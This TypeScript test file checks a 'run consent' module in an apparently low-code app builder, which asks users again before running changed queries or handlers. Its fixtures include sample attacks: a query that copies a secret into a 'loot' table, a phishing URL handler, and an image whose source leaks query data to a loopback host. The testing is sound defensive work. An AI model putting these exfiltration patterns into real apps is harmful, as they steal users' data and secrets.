import { describe, expect, it } from "vitest";
import type { Definition } from "./edit";
import { canonical, isBlank, isTrusted, runFingerprint, trust } from "./runConsent";

function memoryStorage() {
  const items = new Map<string, string>();
  return { getItem: (k: string) => items.get(k) ?? null, setItem: (k: string, v: string) => void items.set(k, v), items };
}

const draft = (sql: string, extra: Partial<Definition> = {}): Definition => ({
  pages: [
    {
      id: "page1",
      name: "Home",
      components: [
        {
          id: "form1",
          type: "form",
          props: {},
          layout: { x: 0, y: 0, w: 6, h: 4 },
          children: [{ id: "go", type: "button", props: {}, layout: { x: 0, y: 0, w: 2, h: 1 }, events: [{ event: "click", action: "runQuery", query: "q" }] }],
        },
      ],
    },
  ],
  queries: [{ name: "q", datasource: "db", operation: "sql", query: { sql }, runOnLoad: true }],
  ...extra,
});

describe("run consent", () => {
  it("trusts exactly what was saved or agreed to, per user and app", () => {
    const storage = memoryStorage();
    expect(isTrusted(storage, "u1", "a1", draft("select 1"))).toBe(false);
    trust(storage, "u1", "a1", draft("select 1"));
    expect(isTrusted(storage, "u1", "a1", draft("select 1"))).toBe(true);
    expect(isTrusted(storage, "u2", "a1", draft("select 1"))).toBe(false);
    expect(isTrusted(storage, "u1", "a2", draft("select 1"))).toBe(false);
    // Someone else changed a query: ask again.
    expect(isTrusted(storage, "u1", "a1", draft("insert into loot select {{ secrets.key }}"))).toBe(false);
  });

  it("asks again when a handler changes, even deep in a container", () => {
    const storage = memoryStorage();
    const before = draft("select 1");
    trust(storage, "u1", "a1", before);
    const after = structuredClone(before);
    const button = after.pages[0].components[0]?.children?.[0];
    if (!button) throw new Error("fixture");
    button.events = [{ event: "click", action: "openUrl", url: "http://127.0.0.1:9/phish" }];
    expect(isTrusted(storage, "u1", "a1", after)).toBe(false);
  });

  it("asks again when an expression in a prop or a variable changes", () => {
    const storage = memoryStorage();
    const before = draft("select 1");
    trust(storage, "u1", "a1", before);
    const image = structuredClone(before);
    image.pages[0].components[0]!.children!.push({
      id: "pixel",
      type: "image",
      props: { src: "https://127.0.0.1:9/?d={{ queries.q.data }}" },
      layout: { x: 0, y: 2, w: 1, h: 1 },
    });
    expect(isTrusted(storage, "u1", "a1", image)).toBe(false);
    const nested = structuredClone(before);
    nested.pages[0].components[0]!.props = { columns: [{ label: "{{ queries.q.data[0] }}" }] };
    expect(isTrusted(storage, "u1", "a1", nested)).toBe(false);
    expect(isTrusted(storage, "u1", "a1", draft("select 1", { variables: { target: "{{ user.email }}" } }))).toBe(false);
  });

  it("asks again when a component's type or a plain prop changes", () => {
    const storage = memoryStorage();
    const before = draft("select 1");
    before.pages[0].components[0]!.props = { title: "Customers" };
    trust(storage, "u1", "a1", before);
    // A prop inert on a text component comes alive when the type becomes image.
    const retyped = structuredClone(before);
    retyped.pages[0].components[0]!.type = "image";
    expect(isTrusted(storage, "u1", "a1", retyped)).toBe(false);
    // A plain default value is what a handler's query sends.
    const valued = structuredClone(before);
    valued.pages[0].components[0]!.props = { title: "Customers", value: "100000" };
    expect(isTrusted(storage, "u1", "a1", valued)).toBe(false);
    // Keys that would read the same once flattened are still told apart.
    const flat = structuredClone(before);
    flat.pages[0].components[0]!.props = { "title/0": "Customers" };
    expect(isTrusted(storage, "u1", "a1", flat)).toBe(false);
  });

  it("ignores layout changes and the order a store keeps keys in", () => {
    const storage = memoryStorage();
    trust(storage, "u1", "a1", draft("select 1"));
    const moved = draft("select 1");
    moved.pages[0].components[0]!.layout = { x: 3, y: 3, w: 6, h: 4 };
    moved.pages[0].components[0]!.children![0]!.layout = { x: 1, y: 1, w: 2, h: 1 };
    expect(isTrusted(storage, "u1", "a1", moved)).toBe(true);
    expect(canonical({ b: 1, a: [{ d: 2, c: 3 }] })).toBe(canonical({ a: [{ c: 3, d: 2 }], b: 1 }));
    expect(runFingerprint(draft("select 1"))).toBe(runFingerprint(JSON.parse(JSON.stringify(draft("select 1"))) as Definition));
  });

  it("knows a blank draft", () => {
    expect(isBlank({ pages: [{ id: "page1", name: "Home", components: [] }] })).toBe(true);
    expect(isBlank({ pages: [{ id: "page1", name: "Home", components: [] }], variables: { v: 1 } })).toBe(false);
    expect(isBlank(draft("select 1", { queries: [] }))).toBe(false);
    expect(isBlank({ pages: [{ id: "page1", name: "Home", components: [] }], queries: draft("select 1").queries })).toBe(false);
  });

  it("fails safe when storage throws", () => {
    const broken = {
      getItem: () => {
        throw new Error("denied");
      },
      setItem: () => {
        throw new Error("full");
      },
    };
    trust(broken, "u1", "a1", draft("select 1"));
    expect(isTrusted(broken, "u1", "a1", draft("select 1"))).toBe(false);
    expect(isTrusted(null, "u1", "a1", draft("select 1"))).toBe(false);
  });
});
